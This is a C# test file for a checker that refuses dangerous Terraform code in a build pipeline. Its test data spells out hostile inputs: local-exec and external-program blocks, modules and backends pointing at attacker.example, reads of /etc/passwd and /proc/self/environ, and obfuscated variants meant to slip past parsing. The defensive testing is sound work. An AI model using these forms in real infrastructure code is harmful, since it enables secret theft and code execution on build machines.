using Delightful.Infrastructure.Tests.Template;

namespace Delightful.Infrastructure.Tests.Builds;

/// <summary>Code of a repository that could run anything is refused before Terraform runs.</summary>
public sealed class RepositoryCheckTests
{
    [Theory]
    [InlineData("data \"external\" \"x\" {\n  program = [\"sh\"]\n}", 1, "another provider")]
    [InlineData("data \"http\" \"x\" {\n  url = \"https://attacker.example\"\n}", 1, "another provider")]
    [InlineData("data /* \n */ \"external\" \"x\" {}", 1, "another provider")]
    [InlineData("data external x {}", 1, "another provider")]
    [InlineData("data \"extern\\u0061l\" \"x\" {}", 1, "escapes")]
    [InlineData("check \"c\" {\n  data \"external\" \"x\" {}\n}", 2, "another provider")]
    [InlineData("data \"aws_lambda_invocation\" \"x\" {}", 1, "would run code")]
    [InlineData("ephemeral \"aws_lambda_invocation\" \"x\" {}", 1, "would run code")]
    [InlineData("data \"terraform_remote_state\" \"x\" {\n  backend = \"http\"\n}", 1, "another provider")]
    [InlineData("resource \"null_resource\" \"x\" {}", 1, "another provider")]
    [InlineData("resource \"aws_iam_role\" \"x\" {\n\n  provisioner \"local-exec\" {\n    command = \"id\"\n  }\n}", 3, "would run code")]
    [InlineData("resource \"terraform_data\" \"x\" { provisioner \"local-exec\" { command = \"id\" } }", 1, "would run code")]
    [InlineData("removed {\n  from = aws_iam_role.x\n  provisioner \"local-exec\" {\n    command = \"id\"\n  }\n}", 3, "would run code")]
    [InlineData("module \"m\" {\n  source = \"git::https://attacker.example/m.git\"\n}", 2, "not in the repository")]
    [InlineData("module \"m\" {\n  source = \"terraform-aws-modules/vpc/aws\"\n  version = \"5.0.0\"\n}", 2, "not in the repository")]
    [InlineData("module \"m\" {\n  source = \"https://attacker.example/m.zip\"\n}", 2, "not in the repository")]
    [InlineData("module \"m\" {\n  source = \"/etc\"\n}", 2, "not in the repository")]
    [InlineData("module \"m\" {\n  source = \"../../etc\"\n}", 2, "neither in")]
    [InlineData("module \"m\" {\n  source = \"../modules/../../x\"\n}", 2, "neither in")]
    [InlineData("module \"m\" {\n  source = \"../service/../bootstrap\"\n}", 2, "neither in")]
    [InlineData("module \"m\" {\n  source = \"../services\"\n}", 2, "neither in")]
    [InlineData("module \"m\" {\n  source = \"./${var.m}\"\n}", 2, "plain text")]
    [InlineData("module \"m\" {\n  source = \"./.terraform/modules/m\"\n}", 2, "neither in")]
    [InlineData("terraform {\n  required_providers {\n    aws = {\n      source = \"attacker/aws\"\n    }\n  }\n}", 4, "not hashicorp/aws")]
    [InlineData("terraform {\n  required_providers {\n    evil = { source = \"attacker/evil\" }\n  }\n}", 3, "not the one of AWS")]
    [InlineData("terraform {\n  required_providers {\n    aws = { \"sourc\\u0065\" = \"attacker/aws\" }\n  }\n}", 3, "plain texts")]
    [InlineData("terraform {\n  required_providers {\n    aws = { (\"source\") = \"attacker/aws\" }\n  }\n}", 3, "plain texts")]
    [InlineData("resource \"aws_s3_object\" \"x\" {\n  bucket = \"delightful-state\"\n  key = \"services/other/prod.tfstate\"\n}", 1, "states and locks of every service")]
    [InlineData("resource \"aws_s3_object_copy\" \"x\" {\n}", 1, "states and locks of every service")]
    [InlineData("data \"aws_s3_object\" \"x\" {\n}", 1, "states and locks of every service")]
    [InlineData("data \"aws_s3_objects\" \"x\" {\n}", 1, "states and locks of every service")]
    [InlineData("resource \"aws_dynamodb_table_item\" \"x\" {\n}", 1, "states and locks of every service")]
    [InlineData("data \"aws_dynamodb_table_item\" \"x\" {\n}", 1, "states and locks of every service")]
    [InlineData("terraform {\n  backend \"http\" {\n    address = \"https://attacker.example\"\n  }\n}", 2, "only be where the build keeps it")]
    [InlineData("terraform {\n  backend \"s3\" {\n    shared_config_files = [\"aws.cfg\"]\n  }\n}", 3, "must be empty")]
    [InlineData("terraform {\n  cloud {}\n}", 2, "may not stand in terraform")]
    [InlineData("provider \"aws\" {\n  shared_config_files = [\"aws.cfg\"]\n  profile = \"credential-process\"\n}", 2, "may not set \"shared_config_files\"")]
    [InlineData("provider \"aws\" {\n  endpoints {\n    sts = \"https://attacker.example\"\n  }\n}", 2, "may not set \"endpoints\"")]
    [InlineData("provider \"kubernetes\" {}", 1, "not the one of AWS")]
    [InlineData("action \"aws_lambda_invoke\" \"x\" {}", 1, "not known")]
    [InlineData("locals {\n  x = file(\"/proc/self/environ\")\n}", 2, "may read only")]
    [InlineData("locals {\n  x = file\n    (\"/etc/passwd\")\n}", 3, "not understood")]
    [InlineData("locals {\n  x = [\n    file /* */ (\"../../../etc/passwd\")\n  ]\n}", 3, "may read only")]
    [InlineData("locals {\n  x = filebase64(\"${path.module}/../../etc/passwd\")\n}", 2, "may read only")]
    [InlineData("locals {\n  x = file(var.name)\n}", 2, "may read only")]
    [InlineData("locals {\n  x = templatefile(join(\"\", [\"/etc\", \"/passwd\"]), {})\n}", 2, "may read only")]
    [InlineData("locals {\n  x = core::file(\"/etc/passwd\")\n}", 2, "may read only")]
    [InlineData("locals {\n  x = \"a ${ \"b ${ file(\"/etc/passwd\") }\" } c\"\n}", 2, "may read only")]
    [InlineData("locals {\n  x = <<-EOT\n    EOT is near\n    ${file(\"/etc/passwd\")}\n  EOT\n}", 4, "may read only")]
    [InlineData("locals {\n  x = \"%{ if file(\"/etc/passwd\") == \"\" }a%{ endif }\"\n}", 2, "may read only")]
    [InlineData("locals {\n  x = \"\\\\${file(\"/etc/passwd\")}\"\n}", 2, "may read only")]
    [InlineData("locals {\n  x = \"$$${file(\"/etc/passwd\")}\"\n}", 2, "not clear")]
    [InlineData("locals {\n  x = \"$%{file(\"/etc/passwd\")}\"\n}", 2, "not clear")]
    [InlineData("locals {\n  x = <<EOT\n\u00a0EOT\n  y = file(\"/etc/passwd\")\n  z = <<EOT\nEOT\n}", 3, "does not stand alone")]
    [InlineData("locals {\n  x = 1 # \r  y = file(\"/etc/passwd\")\n}", 1, "not understood")]
    [InlineData("locals {\n  x = \"no end\n}", 2, "no end")]
    [InlineData("locals {\n  x = fileset(\"/\", \"**\")\n}", 2, "may read only")]
    [InlineData("locals {\n  x = fileset(path.module, \"../**\")\n}", 2, "may read only")]
    [InlineData("\u0430ws = 1", 1, "not understood")]
    [InlineData("resource \"aws_iam_role\" \"x\" {", 2, "a brace is missing")]
    [InlineData("}", 1, "a brace too many")]
    public async Task Code_that_could_run_fetch_or_read_anything_is_refused(string code, int line, string why)
    {
        var refused = await CheckedRepository.CheckAsync(code);
        refused.ShouldNotBeEmpty();
        refused[0].ShouldSatisfyAllConditions(r => r.ShouldStartWith($"refused main.tf:{line}: "), r => r.ShouldContain(why));
    }

    [Theory]
    [InlineData(".terraform/providers/registry.terraform.io/hashicorp/aws/5.100.0/linux_amd64/terraform-provider-aws_v5")]
    [InlineData(".terraform/modules/modules.json")]
    [InlineData("terraform.d/plugins/provider")]
    [InlineData(".terraformrc")]
    [InlineData("sub/.terraformrc")]
    [InlineData("main.tf.json")]
    [InlineData("a\u00e9.tf")]
    public async Task Files_that_steer_Terraform_are_refused(string path)
    {
        using var repository = new CheckedRepository();
        repository.Write("main.tf", "locals {}\n");
        repository.Write(path, "{}");
        (await repository.CheckAsync()).ShouldNotBeEmpty();
    }

    /// <summary>Terraform reads these of the root by itself, without being told to.</summary>
    [Theory]
    [InlineData("terraform.tfvars", "values")]
    [InlineData("terraform.tfvars.json", "values")]
    [InlineData("x.auto.tfvars", "values")]
    [InlineData("x.auto.tfvars.json", "values")]
    [InlineData("terraform.tfstate", "state")]
    [InlineData("terraform.tfstate.d/default/terraform.tfstate", "state")]
    public async Task Values_and_states_that_a_repository_brings_along_are_refused(string path, string why)
    {
        using var repository = new CheckedRepository();
        repository.Write("main.tf", "locals {}\n");
        repository.Write(path, "image_tag = \"theirs\"\n");
        (await repository.CheckAsync()).ShouldHaveSingleItem().ShouldSatisfyAllConditions(
            r => r.ShouldStartWith($"refused {path.Split('/')[0]}: "), r => r.ShouldContain(why));
    }

    [Fact]
    public async Task Values_that_Terraform_does_not_read_by_itself_are_nobodys_concern()
    {
        using var repository = new CheckedRepository();
        repository.Write("main.tf", "locals {}\n");
        repository.Write("examples/terraform.tfvars", "image_tag = \"v1\"\n");
        repository.Write("production.tfvars", "image_tag = \"v1\"\n");
        (await repository.CheckAsync()).ShouldBeEmpty();
    }

    [Fact]
    public async Task A_link_out_of_the_tree_is_refused()
    {
        using var repository = new CheckedRepository();
        repository.Write("main.tf", "locals {}\n");
        File.CreateSymbolicLink(Path.Combine(repository.Folder, "passwd"), "/etc/passwd");
        (await repository.CheckAsync()).ShouldHaveSingleItem().ShouldBe("refused passwd: it is a link");
    }

    [Fact]
    public async Task Modules_of_the_repository_are_checked_too()
    {
        using var repository = new CheckedRepository();
        repository.Write("main.tf", "module \"a\" {\n  source = \"./modules/a\"\n}\n");
        repository.Write("modules/a/main.tf", "module \"b\" {\n  source = \"../b\"\n}\n");
        repository.Write("modules/b/main.tf", "module \"a\" {\n  source = \"../a\"\n}\n\ndata \"external\" \"x\" {}\n");
        repository.Write("unused/main.tf", "data \"external\" \"x\" {}\n");
        (await repository.CheckAsync()).ShouldHaveSingleItem().ShouldStartWith("refused modules/b/main.tf:5: a data \"external\"");
    }

    [Fact]
    public async Task Bytes_that_end_a_text_for_one_reader_only_are_refused() =>
        (await CheckedRepository.CheckAsync("locals {}\n\0data \"external\" \"x\" {}\n")).ShouldContain("refused main.tf: it is no text");

    [Fact]
    public async Task Code_without_harm_passes()
    {
        using var repository = new CheckedRepository();
        repository.Write("main.tf", """
            # provisioner "local-exec" {} stands in a comment
            terraform {
              required_version = ">= 1.11"
              required_providers {
                aws = {
                  source  = "hashicorp/aws"
                  version = "~> 5.100"
                }
              }
              backend "s3" {}
            }

            provider "aws" {
              region = var.region
              default_tags { tags = { team = "web" } }
            }

            variable "region" { type = string }

            locals {
              text   = "data \"external\" \"x\" {} costs $5 and 100%, $${not} a template"
              policy = jsondecode(file("${path.module}/policy.json"))
              page   = templatefile("page.tftpl", { name = "x" })
              pages  = fileset(path.module, "pages/*.html")
              long   = <<-EOT
                provisioner "local-exec" {}
                ${join(", ", [for name in ["a", "b"] : "${name}}"])}
              EOT
            }

            module "service" {
              source = "../modules/ecs-service"
            }

            module "own" {
              source = "./modules/own"
            }

            resource "aws_s3_bucket" "this" {
              for_each = { for name in ["a"] : name => { big = 1 > 0 ? 1 : 2 } }
              bucket   = each.key
              dynamic "rule" {
                for_each = []
                content { id = rule.value }
              }
              lifecycle { prevent_destroy = true }
            }

            data "aws_region" "this" {}

            moved {
              from = aws_s3_bucket.old
              to   = aws_s3_bucket.this
            }

            output "rollout" { value = <<EOT
            { }
            EOT
            }
            """);
        repository.Write("modules/own/main.tf", "resource \"terraform_data\" \"x\" { input = file(\"${path.module}/x\") }\n");
        repository.Write(".terraform.lock.hcl", "");
        (await repository.CheckAsync()).ShouldBeEmpty();
    }

    [Fact]
    public async Task The_root_of_the_example_passes()
    {
        using var repository = new CheckedRepository();
        foreach (var file in Directory.EnumerateFiles(Path.Combine(SamTemplate.RepositoryRoot, "examples", "microservices", "infrastructure"), "*.tf"))
            repository.Write(Path.GetFileName(file), await File.ReadAllTextAsync(file, TestContext.Current.CancellationToken));

        (await repository.CheckAsync()).ShouldBeEmpty();
    }

    [Fact]
    public async Task The_code_that_comes_with_the_pipeline_passes()
    {
        var infrastructure = Path.Combine(SamTemplate.RepositoryRoot, "infrastructure");
        foreach (var file in Directory.EnumerateFiles(infrastructure, "*.tf", SearchOption.AllDirectories).Where(f => !f.Contains("/.terraform/") && !f.Contains("/bootstrap/") && !f.Contains("/foundation/") && !f.Contains("/tests/")))
        {
            using var repository = new CheckedRepository();
            repository.Write("modules/x/placeholder.tf", "");
            repository.Write("main.tf", await File.ReadAllTextAsync(file, TestContext.Current.CancellationToken));
            (await repository.CheckAsync()).ShouldBeEmpty(file);
        }
    }
}
